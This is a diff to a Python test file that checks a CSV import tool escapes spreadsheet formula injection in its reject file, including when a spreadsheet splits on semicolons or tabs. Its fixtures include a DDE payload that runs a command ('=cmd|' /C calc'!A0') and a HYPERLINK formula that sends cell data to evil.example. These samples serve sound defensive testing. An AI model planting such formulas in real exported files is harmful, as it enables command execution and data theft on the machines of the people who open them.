@@ -274,12 +274,17 @@ def test_hostile_row_goes_to_the_reject_file_when_skipping_invalid_rows(
 DDE = "=cmd|' /C calc'!A0"
 
 
+def cell_starts(line: str, delimiter: str) -> list[str]:
+    """The cells a spreadsheet splitting on ``delimiter`` sees in ``line``, as it sees them."""
+    return [c.lstrip(" ") for c in next(csv.reader([line], delimiter=delimiter))]
+
+
 def test_reject_file_cells_cannot_run_as_formulas(store: Store, tmp_path: Path) -> None:
     path = tmp_path / "kvk.csv"
     hostile = kvk_row(kvk_nummer="=1+1", naam='=HYPERLINK("http://evil.example/?d="&A1,"klik")',
                       adres_straat="@SUM(A1:A9)", adres_plaats="+31 6 1234",
                       functionaris_voornamen="-2+3", functionaris_geslachtsnaam="Aan\x00valler")
-    path.write_text(csv_text([kvk_row(kvk_nummer="90000098"), [*hostile, DDE]],
+    path.write_text(csv_text([kvk_row(kvk_nummer="90000098"), [*hostile, "x;" + DDE]],
                              header=[*COLUMNS, DDE]), encoding="utf-8")
     report = sync(store, SPEC, [path], today=TODAY, skip_invalid=True)
     assert (report.rows_read, report.rows_refused) == (2, 1)
@@ -297,15 +302,23 @@ def test_reject_file_cells_cannot_run_as_formulas(store: Store, tmp_path: Path) 
     assert cell["adres_plaats"] == "'+31 6 1234"
     assert cell["functionaris_voornamen"] == "'-2+3"
     assert cell["functionaris_geslachtsnaam"] == "Aan\ufffdvaller"  # shown, not passed on
-    assert cell["'" + DDE] == "'" + DDE
-    assert not [c for c in [*header, *refused] if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert cell["'" + DDE] == "x;'" + DDE
+    # opened as written, or by a spreadsheet that splits on semicolons or tabs instead
+    text = (tmp_path / "kvk.afgewezen.csv").read_text(encoding="utf-8")
+    for delimiter in (",", ";", "\t"):
+        for line in text.splitlines():
+            assert not [c for c in cell_starts(line, delimiter)
+                        if c.startswith(("=", "+", "-", "@", "\t", "\r"))], (delimiter, line)
 
 
 @pytest.mark.parametrize(("cell", "shown"), [
     ("=1+1", "'=1+1"), ("+31", "'+31"), ("-5", "'-5"), ("@SUM(A1)", "'@SUM(A1)"),
-    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("a=b", "a=b"), ("1-2", "1-2"), ("", ""),
+    ("\t=1", "'\t'=1"), ("\r=1", "'\r'=1"), ("a=b", "a=b"), ("1-2", "1-2"), ("", ""),
     ("Ja\x00n", "Ja\ufffdn"), ("regel\nregel", "regel\nregel"),
-])
+    # a spreadsheet splitting on another delimiter would start a cell after the separator
+    ("x;=cmd|' /C calc'!A0", "x;'=cmd|' /C calc'!A0"), ("a, +31", "a, '+31"),
+    ("a\t@SUM(A1)", "a\t'@SUM(A1)"), ('"=1"', '"\'=1"'), ("regel\n-2", "regel\n'-2"),
+], ids=repr)
 def test_spreadsheet_safe_follows_the_owasp_rule(cell: str, shown: str) -> None:
     assert spreadsheet_safe(cell) == shown
 
